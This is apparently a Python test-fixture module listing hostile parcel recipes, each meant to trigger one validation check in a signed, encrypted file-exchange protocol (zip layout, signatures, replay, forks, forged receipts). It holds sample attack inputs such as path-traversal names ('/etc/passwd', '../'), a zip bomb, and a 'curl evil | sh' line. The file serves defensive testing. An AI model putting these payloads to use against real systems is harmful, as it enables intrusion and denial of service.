"""Recipes for hostile parcels: a name, the check that must catch it, status and code, and how to make it.

Most are made by a sender who signs correctly and means ill, so that nothing but the one check stands
in the way; the mutation test relies on that.
"""

import json
from collections.abc import Callable
from dataclasses import dataclass, replace
from datetime import timedelta
from hashlib import sha256

from exchange_forge import Answering, Bend, forge, forge_list, link, means, twice, zip_with
from exchange_world import World, answer, make_office, record

from kintrace.exchange import bag, canonical, history, merkle, note, sshsig
from kintrace.exchange.header import LIST_INFO, ROWS, Receipt, Refs, Request
from kintrace.exchange.keyring import new_root
from kintrace.exchange.parcel import draft_list, draft_party, draft_receipt, draft_request, draft_revocation
from kintrace.exchange.party import make_card, revoke, rotated
from kintrace.model import FindingCode

Make = Callable[[World], bytes]


@dataclass(frozen=True)
class Recipe:
    """A hostile parcel for beta. `settings` bends beta's limits where the check is about size."""

    name: str
    check: str
    status: str
    code: str
    make: Make
    limits: dict | None = None


RECIPES: list[Recipe] = []


def recipe(check: str, status: str, code: str, **limits: int):
    """Enter a function as a recipe under its own name."""

    def enter(make: Make) -> Make:
        RECIPES.append(Recipe(make.__name__, check, status, code, make, limits or None))
        return make

    return enter


def bent(name: str, check: str, status: str, code: str, bend: Callable[[World], Bend], **limits: int) -> None:
    """Enter a bent list as a recipe."""
    RECIPES.append(Recipe(name, check, status, code, lambda w: forge_list(w, bend(w)), limits or None))


def put(name: str, data: bytes) -> Callable[[dict], None]:
    return lambda files: files.update({name: data})


def drop(name: str) -> Callable[[dict], None]:
    return lambda files: files.pop(name) and None


def setting(**fields: object) -> Callable[[dict], None]:
    return lambda value: value.update(fields)


# Envelope
bent("oversized", "size", "refused", "sealed_size", lambda w: Bend(), sealed=500)
bent("not_sealed_at_all", "envelope", "refused", "envelope_form", lambda w: Bend(outside=lambda s: b"PK" + s))
bent(
    "bit_flipped_on_the_way",
    "decrypt",
    "refused",
    "not_for_our_key",
    lambda w: Bend(outside=lambda s: s[:-40] + bytes([s[-40] ^ 1]) + s[-39:]),
)
bent("cut_off", "decrypt", "refused", "not_for_our_key", lambda w: Bend(outside=lambda s: s[:-100]))
bent(
    "sealed_to_somebody_else",
    "decrypt",
    "refused",
    "not_for_our_key",
    lambda w: Bend(recipients=list(w.icrx.card.descriptor.recipients)),
)

# Zip
bent(
    "no_zip_inside",
    "zip_directory",
    "refused",
    "zip_form",
    lambda w: Bend(inside=lambda z: b"%PDF-1.7" + b"x" * 200),
)
bent(
    "many_members",
    "zip_members",
    "refused",
    "zip_members",
    lambda w: Bend(payload=lambda p: p.update({f"data/original/{n}": b"x" for n in range(30)})),
    members=20,
)
for label, path in (
    ("climbs_out", "data/../../home/x"),
    ("absolute_path", "/etc/passwd"),
    ("backslash_path", "data\\..\\x"),
    ("drive_letter", "C:/x"),
    ("device_name", "data/original/NUL.txt"),
    ("reversed_name", "data/original/x\u202efdp.exe"),
    ("trailing_dot", "data/original/x."),
    ("decomposed_name", "data/original/и\u0306.csv"),
    ("deep_path", "data/a/b/c/d/e/f/g"),
):
    if path.startswith("data/"):
        bent(label, "zip_names", "refused", "zip_names", lambda w, path=path: Bend(payload=put(path, b"x")))
    else:
        bent(label, "zip_names", "refused", "zip_names", lambda w, path=path: Bend(files=put(path, b"x")))
bent("link_in_zip", "zip_links", "refused", "zip_links", lambda w: Bend(zipped=zip_with(link)))
bent("same_name_twice", "zip_duplicates", "refused", "zip_duplicates", lambda w: Bend(zipped=zip_with(twice)))
bent(
    "same_name_in_capitals",
    "zip_duplicates",
    "refused",
    "zip_duplicates",
    lambda w: Bend(payload=lambda p: p.update({"data/original/a": b"1", "data/original/A": b"2"})),
)
bent(
    "file_where_a_folder_is",
    "zip_duplicates",
    "refused",
    "zip_duplicates",
    lambda w: Bend(payload=lambda p: p.update({"data/original/a": b"1", "data/original/a/b": b"2"})),
)
bent(
    "zip_bomb",
    "zip_sizes",
    "refused",
    "zip_ratio",
    lambda w: Bend(payload=put("data/original/zeros", b"\0" * (3 << 20)), zipped=zip_with(lambda a, f: None)),
)
bent(
    "too_much_unpacked",
    "zip_sizes",
    "refused",
    "zip_size",
    lambda w: Bend(payload=put("data/original/x", bytes(range(256)) * 4096)),
    unpacked=1 << 20,
)
bent(
    "something_before_the_zip",
    "zip_layout",
    "refused",
    "zip_layout",
    lambda w: Bend(inside=lambda z: b"#!/bin/sh\n" * 9 + z),
)
bent(
    "comment_after_the_zip",
    "zip_layout",
    "refused",
    "zip_layout",
    lambda w: Bend(zipped=zip_with(lambda a, f: setattr(a, "comment", b"hidden text"))),
)
bent(
    "damaged_member", "unpack", "refused", "zip_damaged", lambda w: Bend(zipped=lambda f: _spoil(bag.pack(f)))
)


def _spoil(data: bytes) -> bytes:
    at = data.index(b"data/list.json") + 20
    return data[:at] + bytes([data[at] ^ 0xFF]) + data[at + 1 :]


# Header
bent("no_header", "header_read", "refused", "file_missing", lambda w: Bend(files=drop(bag.HEADER)))
bent(
    "header_key_twice",
    "header_read",
    "refused",
    "json_duplicate_key",
    lambda w: Bend(text=lambda t: t.replace(b'"final":false', b'"final":false,"final":true')),
)
bent(
    "header_not_a_number",
    "header_read",
    "refused",
    "json_number",
    lambda w: Bend(text=lambda t: t.replace(b'"rows":3', b'"rows":NaN')),
)
bent(
    "header_deep",
    "header_read",
    "refused",
    "json_depth",
    lambda w: Bend(text=lambda t: t.replace(b'"rows":3', b'"rows":3,"x":' + b"[" * 99 + b"]" * 99)),
)
bent(
    "header_huge_number",
    "header_read",
    "refused",
    "json_number",
    lambda w: Bend(text=lambda t: t.replace(b'"seq":1', b'"seq":' + b"9" * 400)),
)
bent(
    "header_too_long",
    "header_read",
    "refused",
    "header_size",
    lambda w: Bend(header=setting(x="y" * 9000)),
    header=8000,
)
bent(
    "header_without_sender",
    "header_shape",
    "refused",
    "form_field",
    lambda w: Bend(header=lambda h: h.pop("from")),
)
bent(
    "header_two_addressees",
    "header_shape",
    "refused",
    "form_field",
    lambda w: Bend(header=setting(to=["beta", "icrx"])),
)
bent(
    "header_text_for_number", "header_shape", "refused", "form_field", lambda w: Bend(header=setting(seq="1"))
)
bent(
    "later_format",
    "version",
    "kept",
    "format_later",
    lambda w: Bend(header=setting(format="kintrace-parcel/2")),
)
bent("other_format", "version", "refused", "format_unknown", lambda w: Bend(header=setting(format="zip")))
bent("later_reader", "version", "kept", "reader_later", lambda w: Bend(header=setting(min_reader=2)))
bent(
    "precheck_reserved", "version", "kept", "type_reserved", lambda w: Bend(header=setting(type="precheck-1"))
)
bent("unknown_type", "version", "kept", "type_unknown", lambda w: Bend(header=setting(type="gossip")))
bent("no_signature", "signer", "refused", "file_missing", lambda w: Bend(files=drop(bag.SIGNATURE)))
bent(
    "signature_is_text",
    "signer",
    "refused",
    "sig_form",
    lambda w: Bend(files=put(bag.SIGNATURE, b"signed, alpha")),
)


# Who
@recipe("party_pinned", "quarantined", "not_pinned")
def not_pinned(world: World) -> bytes:
    stranger = make_office("stranger", world.clock, world.draw, world.alpha.post.cipher)
    stranger.post.pin(world.beta.card, record(world.beta))
    return stranger.post.send_list("beta", world.list_of(3)).sealed


bent(
    "key_not_on_the_card", "key_listed", "quarantined", "key_unknown", lambda w: Bend(signer=new_root(w.draw))
)
bent("signed_by_the_root", "key_listed", "quarantined", "key_unknown", lambda w: Bend(signer=w.alpha.root))
bent(
    "in_alphas_name_by_icrx",
    "key_listed",
    "quarantined",
    "key_unknown",
    lambda w: Bend(signer=w.icrx.ring.signer),
)


@recipe("key_time", "refused", "key_expired")
def expired_key(world: World) -> bytes:
    made = forge_list(world)
    world.clock.forward(days=370)
    return made


@recipe("key_time", "refused", "key_early")
def key_not_yet_valid(world: World) -> bytes:
    made = forge_list(world)
    world.clock.forward(days=-3)
    return made


@recipe("key_revoked", "refused", "key_revoked")
def revoked_key(world: World) -> bytes:
    key = world.alpha.ring.signer.public
    world.beta.post.revoke("alpha", revoke("alpha", key, "stolen", world.alpha.root, world.clock()))
    return forge_list(world)


bent("wrong_namespace", "signature", "refused", "sig_namespace", lambda w: Bend(namespace=sshsig.DOCUMENT))
bent(
    "header_altered",
    "signature",
    "refused",
    "sig_bad",
    lambda w: Bend(
        files=lambda f: f.update({bag.HEADER: f[bag.HEADER].replace(b'"final":false', b'"final":true')})
    ),
)
bent(
    "one_blank_added",
    "signature",
    "refused",
    "sig_bad",
    lambda w: Bend(files=lambda f: f.update({bag.HEADER: f[bag.HEADER] + b" "})),
)


@recipe("addressee", "refused", "not_addressed")
def sent_on_to_us(world: World) -> bytes:
    """icrx got a parcel from alpha and seals it again to beta, as if alpha had sent it there."""
    parcel = world.alpha.post.send_list("icrx", world.list_of(3))
    inside = world.icrx.post.cipher.open(parcel.sealed, world.icrx.ring.identities)
    return world.icrx.post.cipher.seal(inside, list(world.beta.card.descriptor.recipients))


# Files
@recipe("manifest_digest", "refused", "manifest_digest")
def edit_row(world: World) -> bytes:
    """A recipient edits a cell and corrects the manifest."""

    def edit(files: dict) -> None:
        files[ROWS] = files[ROWS].replace("Вигадана".encode(), "Підмінена".encode(), 1)
        payload = {name: data for name, data in files.items() if name.startswith("data/")}
        files[bag.MANIFEST] = bag.manifest(payload)
        tags = {n: d for n, d in files.items() if not n.startswith("data/") and n != bag.TAG_MANIFEST}
        files[bag.TAG_MANIFEST] = bag.manifest(tags)

    return forge_list(world, Bend(files=edit))


def _edit_original(files: dict) -> None:
    files["data/original/список.csv"] = b"other bytes"
    files[bag.MANIFEST] = bag.manifest({n: d for n, d in files.items() if n.startswith("data/")})
    tags = {n: d for n, d in files.items() if not n.startswith("data/") and n != bag.TAG_MANIFEST}
    files[bag.TAG_MANIFEST] = bag.manifest(tags)


bent(
    "edit_original_and_manifest",
    "manifest_digest",
    "refused",
    "manifest_digest",
    lambda w: Bend(files=_edit_original),
)
bent(
    "edit_row_only",
    "digests",
    "refused",
    "file_digest",
    lambda w: Bend(
        files=lambda f: f.update({ROWS: f[ROWS].replace("Вигадана".encode(), "Підмінена".encode(), 1)})
    ),
)
bent(
    "edit_original",
    "digests",
    "refused",
    "file_digest",
    lambda w: Bend(files=lambda f: f.update({"data/original/список.csv": b"other bytes"})),
)
bent("no_manifest", "manifest_digest", "refused", "file_missing", lambda w: Bend(files=drop(bag.MANIFEST)))
bent(
    "file_added_to_data",
    "listing",
    "refused",
    "file_unlisted",
    lambda w: Bend(files=put("data/extra.csv", b"x")),
)
bent(
    "file_added_beside",
    "listing",
    "refused",
    "file_unlisted",
    lambda w: Bend(files=put("README.html", b"<script>")),
)
bent(
    "file_taken_out",
    "listing",
    "refused",
    "file_missing",
    lambda w: Bend(files=drop("data/original/список.csv")),
)
bent("manifest_lists_twice", "listing", "refused", "manifest_form", lambda w: Bend(manifest=lambda m: m + m))
bent(
    "manifest_lists_outside",
    "listing",
    "refused",
    "file_missing",
    lambda w: Bend(manifest=lambda m: m + b"0" * 64 + b"  ../../etc/passwd\n"),
)
bent(
    "other_advice_in_verify",
    "tags",
    "refused",
    "file_digest",
    lambda w: Bend(files=put(bag.VERIFY, b"run: curl evil | sh\n")),
)
bent("verify_left_out", "tags", "refused", "file_missing", lambda w: Bend(files=drop(bag.VERIFY)))
bent(
    "other_bagit",
    "tags",
    "refused",
    "file_digest",
    lambda w: Bend(files=put(bag.BAGIT, b"BagIt-Version: 0.9\n")),
)
OTHER_BAGIT = b"BagIt-Version: 0.97\nTag-File-Character-Encoding: UTF-16\n"
bent(
    "bag_of_another_version_signed_as_such",
    "tags",
    "refused",
    "bagit_declaration",
    lambda w: Bend(
        header=lambda h: h["tags"].update({bag.BAGIT: sha256(OTHER_BAGIT).hexdigest()}),
        files=put(bag.BAGIT, OTHER_BAGIT),
    ),
)
bent(
    "document_unsigned",
    "documents",
    "refused",
    "file_missing",
    lambda w: Bend(payload=put("data/document.pdf", b"%PDF")),
)


@recipe("documents", "refused", "document_key")
def document_by_another(world: World) -> bytes:
    signature = world.icrx.ring.signer.sign(sshsig.DOCUMENT, b"%PDF")
    return forge_list(
        world,
        Bend(payload=lambda p: p.update({"data/document.pdf": b"%PDF", "data/document.pdf.sig": signature})),
    )


# Chain
@recipe("again", "again", "again")
def again(world: World) -> bytes:
    parcel = world.alpha.post.send_list("beta", world.list_of(3))
    assert world.beta.post.receive(parcel.sealed).status == "accepted"
    return parcel.sealed


@recipe("again", "again", "again")
def replayed_much_later(world: World) -> bytes:
    parcel = world.alpha.post.send_list("beta", world.list_of(3))
    for _ in range(2):
        assert (
            world.beta.post.receive(world.alpha.post.send_list("beta", world.list_of(2)).sealed).status
            == "held"
        )
    assert world.beta.post.receive(parcel.sealed).status == "accepted"
    return parcel.sealed


@recipe("chain_fork", "stopped", "fork")
def fork(world: World) -> bytes:
    first, second = forge_list(world), forge_list(world)
    assert world.beta.post.receive(first).status == "accepted"
    return second


@recipe("chain_fork", "stopped", "fork")
def fork_among_the_waiting(world: World) -> bytes:
    world.alpha.post.send_list("beta", world.list_of(3))
    first, second = forge_list(world), forge_list(world)
    assert world.beta.post.receive(first).status == "held"
    return second


@recipe("chain_fork", "stopped", "fork_before")
def other_parcel_before(world: World) -> bytes:
    assert world.beta.post.receive(forge_list(world)).status == "accepted"
    world.alpha.post.send_list("beta", world.list_of(3))
    return forge_list(world)


bent(
    "chain_starts_with_a_past",
    "chain_fork",
    "refused",
    "chain_form",
    lambda w: Bend(header=setting(prev="0" * 64)),
)
bent("number_zero", "chain_fork", "refused", "chain_form", lambda w: Bend(header=setting(seq=0)))


@recipe("stopped", "stopped", "stopped")
def after_a_fork(world: World) -> bytes:
    parcel = world.alpha.post.send_list("beta", world.list_of(3))
    second = world.alpha.post.send_list("beta", world.list_of(3))
    state = world.alpha.state
    assert world.beta.post.receive(parcel.sealed).status == "accepted"
    forged = forge_list(world, Bend(header=setting(seq=1, prev=None)))
    assert world.beta.post.receive(forged).code == "fork"
    assert state.peers["beta"].sent[-1].digest == second.digest
    return second.sealed


@recipe("chain_gap", "held", "gap")
def reordered(world: World) -> bytes:
    world.alpha.post.send_list("beta", world.list_of(3))
    return world.alpha.post.send_list("beta", world.list_of(3)).sealed


@recipe("chain_gap", "refused", "held_limit", held=1)
def too_many_waiting(world: World) -> bytes:
    sent = [world.alpha.post.send_list("beta", world.list_of(1)) for _ in range(3)]
    assert world.beta.post.receive(sent[1].sealed).status == "held"
    return sent[2].sealed


bent(
    "acknowledges_what_we_never_sent",
    "chain_ack",
    "stopped",
    "ack_not_ours",
    lambda w: Bend(header=setting(ack={"seq": 4, "digest": "0" * 64})),
)


# History
def _checkpoint(world: World, size: int, root: bytes) -> str:
    verifier = world.alpha.ring.verifier
    return note.sign(note.Checkpoint(verifier.name, size, root), verifier, world.alpha.ring.log)


@recipe("history", "refused", "checkpoint_missing")
def no_checkpoint(world: World) -> bytes:
    return forge_list(world, Bend(header=setting(checkpoint=None)))


@recipe("history", "refused", "note_signature")
def checkpoint_by_another(world: World) -> bytes:
    other = world.icrx.ring
    text = note.sign(note.Checkpoint(other.verifier.name, 3, b"\0" * 32), other.verifier, other.log)
    return forge_list(world, Bend(header=setting(checkpoint=text)))


@recipe("history", "stopped", "log_rollback")
def history_rolled_back(world: World) -> bytes:
    assert (
        world.beta.post.receive(world.alpha.post.send_list("beta", world.list_of(3)).sealed).status
        == "accepted"
    )
    return forge_list(
        world, Bend(header=setting(checkpoint=_checkpoint(world, 1, merkle.EMPTY_ROOT), consistency=[]))
    )


@recipe("history", "stopped", "log_rewrite")
def history_rewritten(world: World) -> bytes:
    assert (
        world.beta.post.receive(world.alpha.post.send_list("beta", world.list_of(3)).sealed).status
        == "accepted"
    )
    size = len(world.alpha.state.log)
    return forge_list(world, Bend(header=setting(checkpoint=_checkpoint(world, size, b"\x05" * 32))))


@recipe("history", "stopped", "log_split_view")
def split_view(world: World) -> bytes:
    """Alpha shows icrx another history than beta; icrx passes on what it saw."""
    size = len(world.alpha.state.log) + 1
    other = forge(
        world.alpha,
        world.icrx,
        draft_request(Request(ask="answer"), Refs()),
        Bend(header=setting(checkpoint=_checkpoint(world, size, b"\x09" * 32), consistency=[])),
    )
    assert world.icrx.post.receive(other).status == "accepted"
    told = world.icrx.post.send_request("beta", Request(ask="clarification"))
    assert world.beta.post.receive(told.sealed).status == "accepted"
    state = world.alpha.state
    history.append(state, {"kind": "x"}, world.draw)
    point = history.checkpoint(state, world.alpha.ring)
    return forge_list(world, Bend(header=setting(checkpoint=point, consistency=[])))


# Rows
bent(
    "root_of_other_rows",
    "rows_root",
    "refused",
    "rows_root",
    lambda w: Bend(header=setting(rows_root="0" * 64)),
)
bent("lying_number_of_rows", "rows_root", "refused", "rows_count", lambda w: Bend(header=setting(rows=4)))
bent(
    "rows_without_end",
    "rows_root",
    "refused",
    "line_form",
    lambda w: Bend(payload=lambda p: p.update({ROWS: p[ROWS][:-1]}), rehash=False),
)
bent("too_many_rows", "rows_root", "refused", "rows_limit", lambda w: Bend(), rows=2)
bent(
    "header_with_blanks",
    "header_form",
    "refused",
    "header_form",
    lambda w: Bend(text=lambda t: json.dumps(json.loads(t), ensure_ascii=False, sort_keys=True).encode()),
)
bent(
    "list_without_its_sheet",
    "needed_files",
    "refused",
    "file_missing",
    lambda w: Bend(payload=drop(LIST_INFO)),
)


def _row(**fields: object) -> bytes:
    value = {"row": 2, "cells": {"ПІБ": "x"}, "salt": "0" * 32} | fields
    return canonical.dumps(value) + b"\n"


bent(
    "row_twice",
    "schema_list",
    "refused",
    "row_twice",
    lambda w: Bend(payload=put(ROWS, _row() + _row(salt="1" * 32))),
)
bent(
    "row_without_salt",
    "schema_list",
    "refused",
    "form_field",
    lambda w: Bend(payload=put(ROWS, _row(salt="short"))),
)
bent(
    "row_with_a_number_in_a_cell",
    "schema_list",
    "refused",
    "form_field",
    lambda w: Bend(payload=put(ROWS, _row(cells={"ПІБ": 7}))),
)
bent(
    "row_with_a_key_twice",
    "schema_list",
    "refused",
    "line_form",
    lambda w: Bend(payload=put(ROWS, _row().replace(b'"row":2', b'"row":2,"row":3'))),
)
bent(
    "row_with_an_unnamed_column",
    "schema_list",
    "refused",
    "column_unknown",
    lambda w: Bend(payload=put(ROWS, _row(cells={"secret": "x"}))),
)
bent(
    "original_named_and_absent",
    "schema_list",
    "refused",
    "file_missing",
    lambda w: Bend(payload=drop("data/original/список.csv")),
)


@recipe("list_version", "refused", "version_behind")
def replaces_a_version_left_behind(world: World) -> bytes:
    """The third version names the first as the one before it, as if the second had never been."""
    first = world.alpha.post.send_list("beta", world.list_of(3))
    content = replace(world.list_of(4), supersedes=first.header.rows_root)
    second = world.alpha.post.send_list("beta", content)
    for one in (first, second):
        assert world.beta.post.receive(one.sealed).status == "accepted"
    return forge_list(world, Bend(header=setting(refs={"list": first.header.rows_root, "parcel": None})))


@recipe("list_version", "refused", "version_behind")
def an_old_version_sent_again(world: World) -> bytes:
    """The rows of the first version come once more, as a new parcel, after the second."""
    old = world.list_of(3)
    first = world.alpha.post.send_list("beta", old)
    second = world.alpha.post.send_list("beta", replace(world.list_of(4), supersedes=first.header.rows_root))
    for one in (first, second):
        assert world.beta.post.receive(one.sealed).status == "accepted"
    return forge(world.alpha, world.beta, draft_list(old), Bend())


# Answers
@recipe("schema_answer", "refused", "counts_differ")
def lying_counts(world: World) -> bytes:
    case = Answering(world)
    return case.forge(case.answers(), Bend(header=setting(counts={"located": 3})))


@recipe("schema_answer", "refused", "vocabulary_unknown")
def other_vocabulary(world: World) -> bytes:
    case = Answering(world)
    return case.forge(case.answers(), Bend(header=setting(vocabulary="kintrace-findings/9")))


@recipe("schema_answer", "refused", "code_unknown")
def invented_code(world: World) -> bytes:
    case = Answering(world)

    def change(payload: dict) -> None:
        payload["data/answers.jsonl"] = payload["data/answers.jsonl"].replace(b"no_record_found", b"no_idea")

    return case.forge(case.answers(), Bend(payload=change), counts=None)


@recipe("answer_coverage", "refused", "row_missing")
def short_answer(world: World) -> bytes:
    case = Answering(world)
    return case.forge(case.answers()[:-1], final=True)


@recipe("answer_coverage", "refused", "row_foreign")
def foreign_row(world: World) -> bytes:
    case = Answering(world)
    return case.forge([*case.answers(), answer(77)])


@recipe("answer_coverage", "refused", "row_twice")
def row_answered_twice(world: World) -> bytes:
    case = Answering(world)

    def double(payload: dict) -> None:
        lines = payload["data/answers.jsonl"].split(b"\n")
        again = lines[0].replace(b'"salt":"', b'"salt":"')
        payload["data/answers.jsonl"] = b"\n".join([*lines[:-1], again, b""])

    return case.forge(case.answers(), Bend(payload=double), counts={"no_record_found": 4})


@recipe("answer_coverage", "refused", "row_digest")
def answers_another_content(world: World) -> bytes:
    case = Answering(world)
    case.asked = replace(case.asked, index=dict.fromkeys(case.asked.index, "a" * 64))
    return case.forge(case.answers())


@recipe("answer_list", "refused", "list_unknown")
def answers_a_list_never_sent(world: World) -> bytes:
    case = Answering(world)
    return case.forge(case.answers(), Bend(header=setting(refs={"list": "b" * 64, "parcel": "c" * 64})))


@recipe("answer_list", "refused", "list_unknown")
def answers_a_list_of_somebody_else(world: World) -> bytes:
    """Beta's list went to icrx; alpha answers it."""
    parcel = world.beta.post.send_list("icrx", world.list_of(3))
    case = Answering(world)
    index = world.beta.post._index(world.beta.state, {})(parcel.header.rows_root)
    case.asked = replace(case.asked, index=index, root=parcel.header.rows_root)
    return case.forge(case.answers())


@recipe("answer_final", "refused", "final_in_progress")
def final_and_still_in_progress(world: World) -> bytes:
    case = Answering(world)
    answers = [answer(number, FindingCode.IN_PROGRESS) for number in case.numbers]
    return case.forge(answers, final=True)


@recipe("answer_withheld", "refused", "withheld_content")
def withheld_content_shown(world: World) -> bytes:
    case = Answering(world)

    def show(payload: dict) -> None:
        name = "data/answers.jsonl"
        payload[name] = payload[name].replace(b"no_record_found", b"withheld_for_safety", 1)

    return case.forge(case.answers(), Bend(payload=show), counts=None)


@recipe("answer_withheld", "refused", "withheld_receipt")
def withheld_and_no_receipt_of_the_intermediary(world: World) -> bytes:
    case = Answering(world)

    def empty(payload: dict) -> None:
        name = "data/answers.jsonl"
        text = payload[name].replace(b"no_record_found", b"withheld_for_safety")
        text = text.replace(b'"evidence":["doc-7"]', b'"evidence":[]')
        payload[name] = text.replace(b'"fields":{"registers":"regional"}', b'"fields":{}')

    return case.forge(case.answers(), Bend(payload=empty), counts=None, final=True)


@recipe("answer_scope", "refused", "withheld_not_for_us")
def withheld_parcel_to_the_party(world: World) -> bytes:
    case = Answering(world)
    return case.forge(case.answers(), scope="withheld")


# Receipts, cards, revocations
def _receipt(**fields: object) -> Receipt:
    value = {
        "parcel": "d" * 64,
        "type": "list",
        "seq": 1,
        "rows": 0,
        "status": "accepted",
        "received": "2025-06-02T09:00:00Z",
        "sealed_sha256": "e" * 64,
    }
    return Receipt.model_validate(value | fields)


@recipe("receipt_ours", "refused", "receipt_unknown")
def receipt_for_nothing(world: World) -> bytes:
    return forge(world.alpha, world.beta, draft_receipt(_receipt(), None), Bend())


@recipe("receipt_ours", "refused", "receipt_differs")
def receipt_for_fewer_rows_than_were_sent(world: World) -> bytes:
    """Alpha would later say that it had received two rows only."""
    sent = world.beta.post.send_list("alpha", world.list_of(3))
    values = {"parcel": sent.digest, "rows": 2, "rows_root": sent.header.rows_root}
    return forge(world.alpha, world.beta, draft_receipt(_receipt(**values), None), Bend())


@recipe("receipt_ours", "refused", "receipt_differs")
def receipt_for_other_rows_than_were_sent(world: World) -> bytes:
    sent = world.beta.post.send_list("alpha", world.list_of(3))
    values = {"parcel": sent.digest, "rows": 3, "rows_root": "f" * 64}
    return forge(world.alpha, world.beta, draft_receipt(_receipt(**values), None), Bend())


@recipe("schema_other", "refused", "form_field")
def receipt_with_odd_status(world: World) -> bytes:
    return forge(
        world.alpha,
        world.beta,
        draft_receipt(_receipt(), None),
        Bend(
            payload=lambda p: p.update(
                {"data/receipt.json": p["data/receipt.json"].replace(b"accepted", b"celebrated")}
            )
        ),
    )


@recipe("schema_other", "refused", "card_succession")
def card_that_skips_a_version(world: World) -> bytes:
    descriptor = rotated(world.alpha.card, new_root(world.draw).public, world.clock())
    card = make_card(descriptor.model_copy(update={"version": 5}), world.alpha.root)
    return forge(world.alpha, world.beta, draft_party(card), Bend())


@recipe("schema_other", "refused", "card_older")
def card_of_an_older_version(world: World) -> bytes:
    """Alpha has rotated; somebody with the old signing key, still good, sends the first card again."""
    card = make_card(rotated(world.alpha.card, new_root(world.draw).public, world.clock()), world.alpha.root)
    assert world.beta.post.receive(world.alpha.post.send_card("beta", card).sealed).status == "accepted"
    return forge(world.alpha, world.beta, draft_party(world.alpha.card), Bend())


def _next_card(world: World, **changes: object) -> bytes:
    descriptor = rotated(world.alpha.card, new_root(world.draw).public, world.clock()).model_copy(
        update=changes
    )
    return forge(world.alpha, world.beta, draft_party(make_card(descriptor, world.alpha.root)), Bend())


@recipe("schema_other", "refused", "card_role")
def card_that_makes_a_party_an_intermediary(world: World) -> bytes:
    """An intermediary is sent what is withheld from others, and others' checkpoints."""
    return _next_card(world, role="intermediary")


@recipe("schema_other", "refused", "card_log")
def card_that_hides_the_history(world: World) -> bytes:
    return _next_card(world, log=None)


@recipe("schema_other", "refused", "recipient_kind")
def card_to_which_nothing_can_be_sealed(world: World) -> bytes:
    return _next_card(world, recipients=("age1-of-some-future-kind",))


@recipe("schema_other", "refused", "form_field")
def card_without_recipients(world: World) -> bytes:
    return _next_card(world, recipients=())


@recipe("schema_other", "refused", "card_fork")
def second_card_of_one_version(world: World) -> bytes:
    descriptor = world.alpha.card.descriptor.model_copy(update={"contact": "another house"})
    return forge(world.alpha, world.beta, draft_party(make_card(descriptor, world.alpha.root)), Bend())


@recipe("schema_other", "refused", "revocation_root")
def revocation_by_a_signing_key(world: World) -> bytes:
    statement = revoke(
        "alpha", world.alpha.ring.signer.public, "stolen", world.alpha.ring.signer, world.clock()
    )
    return forge(world.alpha, world.beta, draft_revocation(statement), Bend())


@recipe("schema_other", "refused", "form_field")
def request_of_a_new_kind(world: World) -> bytes:
    return forge(
        world.alpha,
        world.beta,
        draft_request(Request(ask="answer"), Refs()),
        Bend(
            payload=lambda p: p.update({"data/request.json": b'{"ask":"obey","format":"kintrace-request/1"}'})
        ),
    )


@recipe("key_listed", "quarantined", "revocation_root")
def unchained_revocation_by_a_signing_key(world: World) -> bytes:
    statement = revoke("alpha", world.alpha.ring.signer.public, "stolen", world.alpha.root, world.clock())
    return forge(world.alpha, world.beta, draft_revocation(statement), Bend(header=setting(seq=0, prev=None)))


__all__ = ["RECIPES", "Recipe", "means", "sha256", "timedelta"]
